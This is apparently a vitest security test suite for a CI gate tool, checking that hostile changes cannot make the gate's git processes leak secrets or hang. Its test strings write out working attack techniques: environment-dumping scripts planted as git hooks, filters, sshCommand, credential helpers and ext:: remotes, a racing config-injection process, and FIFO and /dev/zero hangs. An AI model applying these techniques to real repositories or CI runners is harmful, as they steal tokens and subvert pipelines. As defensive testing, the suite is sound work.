import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { canBeHostile, type HostilePaths, HostileStep } from "../action/testing/hostile-step.ts";

/** So that a breach asks for runs of the base commit. */
const WITH_BASE = { inputs: { "base-run": "auto", "max-runs": "6" }, env: { STORMLOG_GATE_BASE: "main" } };

/**
 * The start of an attack: `plant(name)` writes a program that saves its environment in `loot`, and `again()` is whether
 * an earlier run planted already. Only the candidate attacks: the base has no attack.mjs.
 */
const PLANT = `import { execFileSync, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
const git = (...args) => execFileSync("/usr/bin/git", args, { stdio: "pipe" });
const plant = (loot, file, name, then = "exit 0") => {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, "#!/bin/sh\\ncat /proc/self/environ > " + loot + "/" + name + "\\n" + then + "\\n", { mode: 0o755 });
  return file;
};
const replace = (file) => { fs.rmSync(file, { force: true, recursive: true }); return file; };
`;

/** Everything that git runs by configuration, hook, attribute or name, at the end of each run. */
const PROGRAMS = `${PLANT}
export const after = ({ loot, home, workspace }) => {
  const at = (name) => plant(loot, home + "/planted/" + name, name, "cat");
  for (const hook of ["post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc", "fsmonitor-watchman"])
    plant(loot, workspace + "/.git/hooks/" + hook, "hook-" + hook);
  for (const [key, value] of [
    ["core.fsmonitor", at("fsmonitor")],
    ["filter.x.smudge", at("smudge")],
    ["filter.x.clean", at("clean")],
    ["filter.y.process", at("process")],
    ["diff.external", at("external")],
    ["diff.x.textconv", at("textconv")],
    ["core.sshCommand", at("ssh")],
    ["core.pager", at("pager")],
    ["core.editor", at("editor")],
    ["core.askPass", at("askpass")],
    ["core.gitProxy", at("proxy")],
    ["core.alternateRefsCommand", at("alternates")],
    ["credential.helper", at("credential")],
    ["gpg.program", at("gpg")],
    ["log.showSignature", "true"],
    ["alias.status", "!" + at("alias")],
    ["remote.origin.url", "ext::" + at("ext")],
    ["remote.origin.uploadpack", at("uploadpack")],
    ["remote.origin.promisor", "true"],
    ["extensions.partialClone", "origin"],
    ["protocol.ext.allow", "always"],
  ]) git("config", key, value);
  fs.writeFileSync(home + "/included", "[core]\\n\\tfsmonitor = " + at("included") + "\\n");
  git("config", "include.path", home + "/included");
  fs.writeFileSync(home + "/.gitconfig", "[core]\\n\\tfsmonitor = " + at("global") + "\\n");
  fs.writeFileSync(workspace + "/.git/info/attributes", "* filter=x diff=x\\n*.mjs filter=y\\n");
  for (const name of ["git", "git-upload-pack", "mkfifo", "ssh", "sh"]) plant(loot, home + "/.local/bin/" + name, "bin-" + name);
};`;

/** A user-writable directory first on PATH, as of \`pip install --user\`. */
const LOCAL_BIN = ({ home }: Pick<HostilePaths, "home">) => `${home}/.local/bin:/usr/local/bin:/usr/bin:/bin`;

describe.skipIf(!canBeHostile)("a change that attacks the gate through git", () => {
  let step: HostileStep;

  beforeAll(async () => {
    step = await HostileStep.start();
  }, 120_000);
  afterAll(() => step.stop());

  it("hooks, filters, helpers and programs on PATH that the command leaves are run by no git of the gate", async () => {
    const env = { ...WITH_BASE.env, PATH: LOCAL_BIN(step.paths) };
    const result = await step.attempt({ ...WITH_BASE, env, breach: true, attack: PROGRAMS });
    expect([...step.loot().keys()]).toEqual([]);
    expect(result.code, result.log).toBe(4);
    expect(result.log).not.toMatch(/base could not be run/);
    // The control: a git that is started with the step's environment runs them.
    const options = {
      cwd: step.paths.workspace,
      env: { ...process.env, INPUT_TOKEN: step.secrets.token, HOME: step.paths.home },
      stdio: "pipe",
    } as const;
    execFileSync("git", ["-c", "safe.directory=*", "update-ref", "refs/x", "HEAD"], options);
    expect(step.stolen(step.loot().get("hook-reference-transaction"))).toEqual(["token"]);
  }, 120_000);

  it("a post-checkout hook and a smudge filter do not make the base allocate as the change does", async () => {
    const attack = `${PLANT}
export const after = ({ loot, workspace, home }) => {
  plant(loot, workspace + "/.git/hooks/post-checkout", "hook", "echo 320 > mebibytes");
  fs.writeFileSync(workspace + "/.git/info/attributes", "mebibytes filter=x\\n");
  git("config", "filter.x.smudge", plant(loot, home + "/smudge", "smudge", "echo 320"));
};`;
    const result = await step.attempt({ ...WITH_BASE, breach: true, attack });
    expect([...step.loot().keys()]).toEqual([]);
    expect(result.code, result.log).toBe(4);
    expect(result.log).not.toMatch(/base could not be run/);
  }, 120_000);

  it("a breach stays red when the command rewrites an object of the base commit", async () => {
    const attack = `${PLANT}
import { deflateSync } from "node:zlib";
export const after = ({ workspace }) => {
  const blob = git("rev-parse", "main:mebibytes").toString().trim();
  const object = workspace + "/.git/objects/" + blob.slice(0, 2) + "/" + blob.slice(2);
  fs.writeFileSync(replace(object), deflateSync("blob 3\\u0000320"));
};`;
    const result = await step.attempt({ ...WITH_BASE, breach: true, attack });
    expect(result.code, result.log).toBe(4);
    expect(result.summary + result.log).toMatch(/object [0-9a-f]{12} was changed/);
  }, 120_000);

  it("a breach stays red when the command replaces the base commit by its own", async () => {
    const attack = `${PLANT}
export const after = () => { git("replace", "--force", "main", "change"); };`;
    const result = await step.attempt({ ...WITH_BASE, breach: true, attack });
    expect(result.code, result.log).toBe(4);
    expect(result.log).not.toMatch(/base could not be run/);
  }, 120_000);

  it("a committed directory that looks like a repository runs nothing when a scenario starts in it", async () => {
    const { paths } = step;
    const ssh = `[core]\n\trepositoryformatversion = 1\n\tworktree = ..\n\tsshCommand = ${paths.workspace}/evil/ssh\n`;
    const partial = `[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = ssh://example.invalid/x\n\tpromisor = true\n`;
    const missing = "1".repeat(40);
    const result = await step.attempt({
      ...WITH_BASE,
      breach: true,
      files: {
        "stormlog-gate.yml": `scenarios:\n  - name: train\n    cwd: evil\n    run: ["${process.execPath}", "../work.mjs"]\nbaseline: file:baselines\n`,
        "evil/HEAD": `${missing}\n`,
        "evil/refs/heads/x": `${missing}\n`,
        "evil/objects/x": "",
        "evil/config": `${ssh}${partial}`,
        "evil/ssh": `#!/bin/sh\ncat /proc/self/environ > ${paths.loot}/ssh\n`,
      },
      prepare: () => chmodSync(path.join(paths.workspace, "evil/ssh"), 0o755),
    });
    expect([...step.loot().keys()]).toEqual([]);
    expect(result.log).toMatch(/Host peak 3\d\d MiB/);
    // The control: git opens the directory, and fetches what it lacks.
    spawnSync("git", ["-c", "safe.directory=*", "cat-file", "-e", missing], {
      cwd: path.join(paths.workspace, "evil"),
    });
    expect([...step.loot().keys()]).toEqual(["ssh"]);
  }, 120_000);

  it("another job of the user cannot have git run a program by writing into its private configuration", async () => {
    const { home, loot } = step.paths;
    // Each command waits, so that its configuration can be written before git reads it.
    const bin = mkdtempSync(path.join(tmpdir(), "stormlog-attack-bin-"));
    chmodSync(bin, 0o755);
    const slow = `#!/usr/bin/perl\nselect(undef, undef, undef, 0.05);\nexec "/usr/bin/git", @ARGV;\n`;
    writeFileSync(path.join(bin, "git"), slow, { mode: 0o755 });
    for (const name of ["chown", "dirname", "setpriv"]) symlinkSync(`/usr/bin/${name}`, path.join(bin, name));
    const beside = step.startBeside(
      process.execPath,
      "-e",
      `
      const fs = require("node:fs");
      const attack = () => {
        for (const name of fs.readdirSync("${home}").filter((one) => one.startsWith("stormlog-gate-git-"))) {
          const program = "${home}/program";
          fs.writeFileSync(program, "#!/bin/sh\\ncat /proc/self/environ > ${loot}/program\\n", { mode: 0o755 });
          const text = ["core.fsmonitor", "diff.external", "filter.x.clean", "filter.x.smudge", "filter.x.process"];
          const lines = text.map((key) => key.replace(/^(\\w+)\\.(?:(x)\\.)?(\\w+)$/, (_, section, name, last) =>
            "[" + section + (name ? ' "' + name + '"' : "") + "]\\n\\t" + last + " = " + program + "\\n"));
          const config = "${home}/" + name + "/config";
          if (!fs.readFileSync(config, "utf8").includes(program)) fs.appendFileSync(config, lines.join(""));
          fs.writeFileSync("${loot}/written", "");
        }
      };
      setInterval(() => { try { attack(); } catch {} }, 1);`,
    );
    try {
      const env = { ...WITH_BASE.env, TMPDIR: home, PATH: bin };
      const files = { ".gitattributes": "*.mjs filter=x\n" };
      const result = await step.attempt({ ...WITH_BASE, env, files, breach: true });
      expect([...step.loot().keys()]).toEqual(["written"]);
      expect(result.code, result.log).toBe(4);
      expect(result.log).not.toMatch(/base could not be run/);
    } finally {
      beside.kill();
      rmSync(bin, { recursive: true });
    }
  }, 120_000);

  it("a tag with the short name of the base branch does not make the change its own base", async () => {
    const config = `${readFileSync(path.join(step.paths.workspace, "stormlog-gate.yml"), "utf8")}policy: {unjudged: pass}\n`;
    const result = await step.attempt({
      breach: true,
      files: { "stormlog-gate.yml": config, baselines: null },
      // Without the event, whose commits have no names.
      env: { GITHUB_EVENT_PATH: "" },
      prepare: () => {
        step.git("update-ref", "refs/remotes/origin/main", "main");
        step.git("update-ref", "refs/tags/origin/main", "HEAD");
      },
    });
    expect(result.code, result.log).not.toBe(0);
    expect(result.summary).toMatch(/policy\.unjudged/);
  }, 120_000);

  it.each([
    [
      "FIFOs as configuration, HEAD and refs",
      `for (const one of ["config", "HEAD", "packed-refs"]) execFileSync("mkfifo", [replace(".git/" + one)])`,
    ],
    [
      "an endless HEAD and main branch, and alternates that name themselves",
      `for (const one of ["HEAD", "refs/heads/main"]) fs.symlinkSync("/dev/zero", replace(".git/" + one));
  fs.writeFileSync(".git/objects/info/alternates", process.cwd() + "/.git/objects\\n")`,
    ],
    [
      "a .git that names another repository",
      `fs.renameSync(".git", "moved"); fs.mkdirSync("evil"); fs.writeFileSync(".git", "gitdir: evil\\n")`,
    ],
  ])(
    "the step ends in time and red with %s",
    async (_, code) => {
      const attack = `${PLANT}
export const after = () => { if (fs.existsSync("attacked")) return; fs.writeFileSync("attacked", ""); ${code}; };`;
      const result = await step.attempt({ ...WITH_BASE, breach: true, attack });
      expect([result.code, result.signals], result.log).toEqual([4, []]);
      expect(result.log).not.toMatch(/INTERNAL/);
    },
    120_000,
  );

  it("a cancelled step does not wait for a FIFO as the index", async () => {
    const attack = `${PLANT}
export const after = () => { execFileSync("mkfifo", [replace(".git/index")]); };`;
    const cancel = async (output: () => string) => {
      while (!output().includes("run 1 of 1")) await new Promise((resolve) => setTimeout(resolve, 20));
    };
    // A step that waits for the FIFO waits for ever, however long the runner does before it insists.
    const result = await step.attempt({ breach: true, attack, step: { cancel, clock: 0.2 } });
    expect(result.signals, result.log).toEqual(["SIGINT"]);
    expect(result.log).not.toMatch(/INTERNAL/);
  }, 120_000);

  it("git processes of the gate have no token, file command or git variable of the job in their environment", async () => {
    // The only git there is records its environment.
    const bin = mkdtempSync(path.join(tmpdir(), "stormlog-attack-bin-"));
    const seen = path.join(bin, "seen");
    mkdirSync(seen);
    chmodSync(bin, 0o777);
    chmodSync(seen, 0o777);
    for (const name of ["chown", "dirname", "setpriv", "mkfifo"]) symlinkSync(`/usr/bin/${name}`, path.join(bin, name));
    // Without a child, which git is not allowed.
    const copy = `local $/; open my $in, "<", "/proc/self/environ"; open my $out, ">", "${seen}/$$"; print {$out} readline($in);`;
    const recording = `#!/usr/bin/perl\n${copy}\nclose $out;\nexec "/usr/bin/git", @ARGV;\n`;
    writeFileSync(path.join(bin, "git"), recording, { mode: 0o755 });
    const variables = {
      ...{ GIT_TRACE: "2", GIT_SSH_COMMAND: "x", GIT_EXTERNAL_DIFF: "x", GIT_DIR: "/nowhere", GIT_CONFIG_COUNT: "1" },
      ...{ GIT_CONFIG_KEY_0: "http.extraheader", GIT_CONFIG_VALUE_0: `basic ${step.secrets.github}` },
      ...{ GIT_ASKPASS: "x", GIT_PROXY_COMMAND: "x", GH_TOKEN: step.secrets.github, PATH: bin },
    };
    const result = await step.attempt({ ...WITH_BASE, env: { ...WITH_BASE.env, ...variables }, breach: true });
    const environments = readdirSync(seen).map((name) => readFileSync(path.join(seen, name), "utf8"));
    rmSync(bin, { recursive: true });
    expect(result.code, result.log).toBe(4);
    expect(environments.length).toBeGreaterThan(5);
    const all = environments.join("\n");
    expect(step.stolen(all)).toEqual([]);
    expect(all).not.toMatch(
      /INPUT_|ACTIONS_|GITHUB_|GIT_TRACE=|GIT_EXTERNAL_DIFF|GIT_ASKPASS=x|GIT_PROXY_COMMAND=x|nowhere/,
    );
    const warning = `no git was found that only an administrator can replace, so ${bin}/git is used`;
    expect(result.summary + result.log).toContain(warning);
  }, 120_000);
});
